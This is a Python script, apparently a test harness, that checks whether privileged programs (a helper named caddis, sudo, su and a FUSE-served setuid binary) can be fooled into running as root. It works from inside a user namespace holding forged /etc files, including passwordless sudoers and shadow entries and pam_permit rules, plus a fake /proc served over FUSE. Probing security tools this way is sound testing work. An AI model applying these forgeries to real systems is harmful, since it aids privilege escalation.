# Root of a nested user namespace mounts what programs with rights trust: accounts and rules, a /proc that says that
# this is the host, a file system of its own with a setuid program. Then it calls those programs.
#   fool.py DIRECTORY    (where they are to leave files, whose owners tell as whom they ran)
import subprocess
directory = sys.argv[1]

# The inode number of the initial user namespace, by which one knows a host.
HOST = 0xEFFFFFFD
PROGRAM = open("/usr/bin/touch", "rb").read()
UID_MAP = f"{os.getuid():10} {os.getuid():10} 1\n".encode()
# inode: name, parent, mode, content
TREE = {1: ("", 0, 0o40755, None), 2: ("self", 1, 0o40755, None), 3: ("ns", 2, 0o40755, None),
        HOST: ("user", 3, 0o100444, b""), 5: ("uid_map", 2, 0o100444, UID_MAP), 6: ("suid", 1, 0o106755, PROGRAM)}


def attributes(inode):
    _, _, mode, content = TREE[inode]
    return struct.pack("QQQQQQIIIIIIIIII", inode, len(content or b""), 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(device):
    """The messages of fuse(4), as far as looking up, reading and executing needs them."""
    while True:
        try:
            message = os.read(device, 1 << 18)
        except OSError:
            os._exit(0)
        _, operation, unique, node = struct.unpack_from("IIQQ", message)
        body, error, answer = message[40:], 0, b""
        if operation == 26:
            answer = struct.pack("IIIIHHIII", 7, 31, 65536, 0, 16, 12, 65536, 1, 0).ljust(64, b"\0")
        elif operation == 1:
            name = body.split(b"\0")[0].decode()
            found = [inode for inode, entry in TREE.items() if entry[:2] == (name, node)]
            error = 0 if found else errno.ENOENT
            answer = struct.pack("QQQQII", found[0], 0, 0, 0, 0, 0) + attributes(found[0]) if found else b""
        elif operation == 3:
            answer = struct.pack("QII", 0, 0, 0) + attributes(node)
        elif operation in (14, 27):
            answer = struct.pack("QII", 0, 0, 0)
        elif operation == 15:
            _, offset, size = struct.unpack_from("QQI", body)
            answer = TREE[node][3][offset:offset + size]
        elif operation in (2, 42, 36):
            continue
        elif operation not in (18, 25, 29):
            error = errno.ENOSYS
        os.write(device, struct.pack("IiQ", 16 + len(answer), -error, unique) + answer)


def put(path, text, mode=0o644):
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, mode)


nest(CLONE_NEWNS | CLONE_NEWPID)
mount("none", "/mnt", "tmpfs")
subprocess.run(["cp", "-a", "/etc/.", "/mnt/"], stderr=subprocess.DEVNULL)
for name in ("sudoers", "shadow", "passwd"):
    if os.path.exists(f"/mnt/{name}"):
        os.unlink(f"/mnt/{name}")
put("/mnt/sudoers", "ALL ALL=(ALL:ALL) NOPASSWD: ALL\n", 0o440)
put("/mnt/shadow", "root::::::::\n", 0o600)
put("/mnt/passwd", f"root::0:0:root:/:/bin/sh\nme::{os.getuid()}:0::/:/bin/sh\n")
put("/mnt/ld.so.preload", "")
for service in ("su", "sudo"):
    put(f"/mnt/pam.d/{service}", "auth sufficient pam_permit.so\naccount sufficient pam_permit.so\n")
mount("/mnt", "/etc", None, MS_BIND)
mount("none", "/var/lib", "tmpfs")
mount("none", "/run", "tmpfs")
device = os.open("/dev/fuse", os.O_RDWR)
for place in ("/srv", "/proc"):
    device = os.open("/dev/fuse", os.O_RDWR)
    mount("fuse", place, "fuse", 0, f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other")
    if os.fork() == 0:
        serve(device)
    os.close(device)
attempt("the host's namespace is faked", lambda: os.stat("/proc/self/ns/user").st_ino == HOST)
for name, argv in {
    "setuid program of a FUSE file system": ["/srv/suid"],
    "helper": ["caddis", "root", "touch"],
    "helper, called directly": ["/usr/local/libexec/caddis/caddis-helper", "session", "--as", "root", "--", "touch"],
    "sudo": ["sudo", "-n", "touch"],
    "su": ["su", "root", "-c", 'touch "$0"', "--"],
}.items():
    file = f"{directory}/by {name}"
    status = subprocess.run([*argv, file], stdin=subprocess.DEVNULL).returncode
    attempt(name, lambda: f"status {status}")
